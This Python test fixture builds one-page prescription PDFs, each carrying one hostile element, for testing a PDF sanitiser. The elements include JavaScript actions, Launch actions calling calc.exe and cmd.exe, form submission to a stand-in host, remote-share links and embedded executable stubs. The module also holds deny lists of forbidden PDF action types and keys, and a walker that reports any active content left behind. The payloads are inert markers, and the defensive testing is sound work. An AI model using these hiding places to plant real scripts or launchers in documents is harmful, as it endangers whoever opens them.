"""Hostile PDFs, one per place active content can hang, and a walk over every object
of a PDF that reports any of it that is left.

Each variant is a real one-page prescription (its text must survive the cleaning)
with one payload added with pikepdf. The payloads carry MARKER so that a leftover
script or file is found even where it hides in an unexpected key.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from documents.pdf_minimal import minimal_pdf

PAGE_TEXT = "Prescription: voclosporin 7.9 mg"
MARKER = "npp-hostile-payload"

# Every action type of PDF 2.0: none of them may be left in a stored upload.
ACTION_TYPES = frozenset(
    {
        "/GoTo",
        "/GoToR",
        "/GoToE",
        "/GoToDp",
        "/Launch",
        "/Thread",
        "/URI",
        "/Sound",
        "/Movie",
        "/Hide",
        "/Named",
        "/SubmitForm",
        "/ResetForm",
        "/ImportData",
        "/SetOCGState",
        "/Rendition",
        "/Trans",
        "/GoTo3DView",
        "/JavaScript",
        "/RichMediaExecute",
    }
)
# Keys that hold actions, scripts, forms or files wherever they appear.
FORBIDDEN_KEYS = frozenset(
    {
        "/A",
        "/AA",
        "/OpenAction",
        "/JS",
        "/JavaScript",
        "/EmbeddedFiles",
        "/EF",
        "/RF",
        "/XFA",
        "/RichMediaContent",
        "/Collection",
    }
)
FORBIDDEN_ANNOTATIONS = frozenset(
    {"/FileAttachment", "/Sound", "/Movie", "/Screen", "/RichMedia", "/3D"}
)


# --- Building the variants -------------------------------------------------------------


def _javascript(pdf: pikepdf.Pdf, script: str = f"app.alert('{MARKER}')") -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script)))


def _launch(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Action,
            S=Name.Launch,
            F=String(f"C:\\Windows\\System32\\calc.exe {MARKER}"),
            Win=Dictionary(F=String("cmd.exe"), P=String(f"/c echo {MARKER}")),
        )
    )


def _link(pdf: pikepdf.Pdf, action: Dictionary, **extra) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 600, 300, 640]),
            Border=Array([0, 0, 0]),
            A=action,
            **extra,
        )
    )


def _add_annotation(pdf: pikepdf.Pdf, annotation: Dictionary) -> None:
    page = pdf.pages[0].obj
    annotation.P = page
    page.Annots = Array([*page.get("/Annots", Array()), annotation])


def _embedded_file(pdf: pikepdf.Pdf) -> Dictionary:
    stream = pikepdf.Stream(pdf, f"MZ payload {MARKER}".encode())
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=stream))
    )


def _outline(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = pdf.make_indirect(
        Dictionary(
            Title=String("Dosage"),
            Parent=outlines,
            Dest=Array([pdf.pages[0].obj, Name.Fit]),
        )
    )
    second = pdf.make_indirect(Dictionary(Title=String("Open"), Parent=outlines, A=action))
    first.Next, second.Prev = second, first
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines


def outline_launch(pdf: pikepdf.Pdf) -> None:
    """A bookmark that starts a program."""
    _outline(pdf, _launch(pdf))


def outline_javascript(pdf: pikepdf.Pdf) -> None:
    """A bookmark that runs a script."""
    _outline(pdf, _javascript(pdf))


def next_chain_javascript(pdf: pikepdf.Pdf) -> None:
    """A harmless jump whose /Next runs a script (two deep: GoTo -> URI -> JavaScript)."""
    script = _javascript(pdf)
    uri = Dictionary(S=Name.URI, URI=String(f"https://{MARKER}.example/"), Next=script)
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([uri]))
    _add_annotation(pdf, _link(pdf, goto))


def open_action_next_chain(pdf: pikepdf.Pdf) -> None:
    """The document's opening jump chains a script."""
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_javascript(pdf)
    )


def open_action_launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _launch(pdf)


def catalog_additional_actions(pdf: pikepdf.Pdf) -> None:
    """Scripts run when the document closes, saves or prints."""
    pdf.Root.AA = Dictionary(WC=_javascript(pdf), WP=_javascript(pdf))


def annotation_submit_form(pdf: pikepdf.Pdf) -> None:
    """A link that posts the form to someone else's server."""
    action = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://{MARKER}.example/"))
    )
    _add_annotation(pdf, _link(pdf, action))


def annotation_import_data(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.ImportData, F=String(f"{MARKER}.fdf"))
    _add_annotation(pdf, _link(pdf, action))


def annotation_reset_form(pdf: pikepdf.Pdf) -> None:
    _add_annotation(pdf, _link(pdf, Dictionary(S=Name.ResetForm, Flags=0)))


def annotation_goto_remote(pdf: pikepdf.Pdf) -> None:
    """A link into a file on someone else's share."""
    action = Dictionary(
        S=Name.GoToR, F=String(f"\\\\{MARKER}.example\\share\\x.pdf"), D=Array([0, Name.Fit])
    )
    _add_annotation(pdf, _link(pdf, action))


def annotation_goto_embedded(pdf: pikepdf.Pdf) -> None:
    """A link into a PDF carried inside the action itself."""
    action = Dictionary(S=Name.GoToE, F=_embedded_file(pdf), NewWindow=True, D=Array([0, Name.Fit]))
    _add_annotation(pdf, _link(pdf, action))


def annotation_additional_actions(pdf: pikepdf.Pdf) -> None:
    """A script run when the pointer enters a link."""
    link = _link(pdf, Dictionary(S=Name.Named, N=Name.NextPage))
    link.AA = Dictionary(E=_javascript(pdf))
    _add_annotation(pdf, link)


def page_additional_actions(pdf: pikepdf.Pdf) -> None:
    """A script run when the page opens."""
    pdf.pages[0].obj.AA = Dictionary(O=_javascript(pdf), C=_launch(pdf))


def form_field_actions(pdf: pikepdf.Pdf) -> None:
    """A form whose parent field formats with a script and whose widget resets it."""
    parent = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("dose"),
            AA=Dictionary(K=_javascript(pdf), F=_javascript(pdf)),
        )
    )
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([72, 500, 300, 520]),
            Parent=parent,
            A=Dictionary(S=Name.ResetForm),
            AA=Dictionary(Fo=_javascript(pdf)),
        )
    )
    parent.Kids = Array([widget])
    _add_annotation(pdf, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]), NeedAppearances=True)


def xfa_form(pdf: pikepdf.Pdf) -> None:
    xdp = pikepdf.Stream(pdf, f"<xdp:xdp><script>{MARKER}</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("template"), xdp]))


def names_javascript(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("init"), _javascript(pdf)]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def names_embedded_files(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("invoice.exe"), _embedded_file(pdf)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=pdf.make_indirect(tree))


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _add_annotation(
        pdf,
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([72, 450, 90, 470]),
                FS=_embedded_file(pdf),
            )
        ),
    )


def screen_rendition(pdf: pikepdf.Pdf) -> None:
    """A screen annotation that plays media from a remote address."""
    clip = Dictionary(
        S=Name.MCD, D=Dictionary(FS=Name.URL, F=String(f"https://{MARKER}.example/a.swf"))
    )
    action = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, C=clip))
    screen = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([72, 300, 300, 400]), A=action)
    )
    action.AN = screen
    _add_annotation(pdf, screen)


def rich_media(pdf: pikepdf.Pdf) -> None:
    content = Dictionary(
        Assets=Dictionary(Names=Array([String("a.swf"), _embedded_file(pdf)])),
        Configurations=Array(),
    )
    annotation = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([72, 200, 300, 280]),
            RichMediaContent=content,
            RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
        )
    )
    _add_annotation(pdf, annotation)
    # The same payload as an action a link starts (PDF 2.0's RichMediaExecute).
    execute = Dictionary(S=Name.RichMediaExecute, TA=annotation, CMD=Dictionary(C=String("x")))
    _add_annotation(pdf, _link(pdf, execute))


def action_under_an_unexpected_key(pdf: pikepdf.Pdf) -> None:
    """A script hung where no standard key is (a viewer extension might find it)."""
    pdf.pages[0].obj[Name("/PieceInfo")] = Dictionary(Payload=_javascript(pdf))


VARIANTS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "outline-launch": outline_launch,
    "outline-javascript": outline_javascript,
    "next-chain-javascript": next_chain_javascript,
    "open-action-next-chain": open_action_next_chain,
    "open-action-launch": open_action_launch,
    "catalog-aa": catalog_additional_actions,
    "annotation-submit-form": annotation_submit_form,
    "annotation-import-data": annotation_import_data,
    "annotation-reset-form": annotation_reset_form,
    "annotation-goto-remote": annotation_goto_remote,
    "annotation-goto-embedded": annotation_goto_embedded,
    "annotation-aa": annotation_additional_actions,
    "page-aa": page_additional_actions,
    "form-field-actions": form_field_actions,
    "xfa-form": xfa_form,
    "names-javascript": names_javascript,
    "names-embedded-files": names_embedded_files,
    "file-attachment": file_attachment_annotation,
    "screen-rendition": screen_rendition,
    "rich-media": rich_media,
    "unexpected-key": action_under_an_unexpected_key,
}


def hostile_pdf(variant: str) -> bytes:
    """A one-page prescription carrying the payload `variant` names."""
    with pikepdf.open(io.BytesIO(minimal_pdf(PAGE_TEXT))) as pdf:
        VARIANTS[variant](pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


# --- Looking for what is left ----------------------------------------------------------


def _walk(obj, path: str) -> Iterator[tuple[str, object]]:
    """Every object inside `obj` that is stored in it (direct), with a path for the
    report. Indirect objects are reached through pdf.objects instead, once each."""
    yield path, obj
    if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
        for key in obj.keys():  # noqa: SIM118 - a Stream is not iterable as a mapping
            value = obj.get(key)
            if not getattr(value, "is_indirect", False):
                yield from _walk(value, f"{path}{key}")
    elif isinstance(obj, pikepdf.Array):
        for index, value in enumerate(obj):
            if not getattr(value, "is_indirect", False):
                yield from _walk(value, f"{path}[{index}]")


def every_object(pdf: pikepdf.Pdf) -> Iterator[tuple[str, object]]:
    yield from _walk(pdf.trailer, "trailer")
    for obj in pdf.objects:
        yield from _walk(obj, f"obj {obj.objgen[0]}")


def active_content(content: bytes) -> list[str]:
    """What is left of actions, scripts, forms and embedded files anywhere in the PDF
    `content` (an empty list for a clean file)."""
    found = []
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for path, obj in every_object(pdf):
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                keys = set(obj.keys())
                found += [f"{path}: key {key}" for key in sorted(keys & FORBIDDEN_KEYS)]
                if str(obj.get("/S", "")) in ACTION_TYPES:
                    found.append(f"{path}: action {obj.S}")
                if str(obj.get("/Subtype", "")) in FORBIDDEN_ANNOTATIONS:
                    found.append(f"{path}: annotation {obj.Subtype}")
                if str(obj.get("/Type", "")) in ("/Action", "/EmbeddedFile", "/Filespec"):
                    found.append(f"{path}: {obj.Type}")
                if isinstance(obj, pikepdf.Stream) and MARKER.encode() in obj.read_bytes():
                    found.append(f"{path}: stream with the payload")
            elif isinstance(obj, pikepdf.String) and MARKER in str(obj):
                found.append(f"{path}: string with the payload")
    return found


def page_text(content: bytes) -> str:
    """The text drawn on the PDF's pages (what a reader sees)."""
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(content))
    return " ".join(page.extract_text() for page in reader.pages)
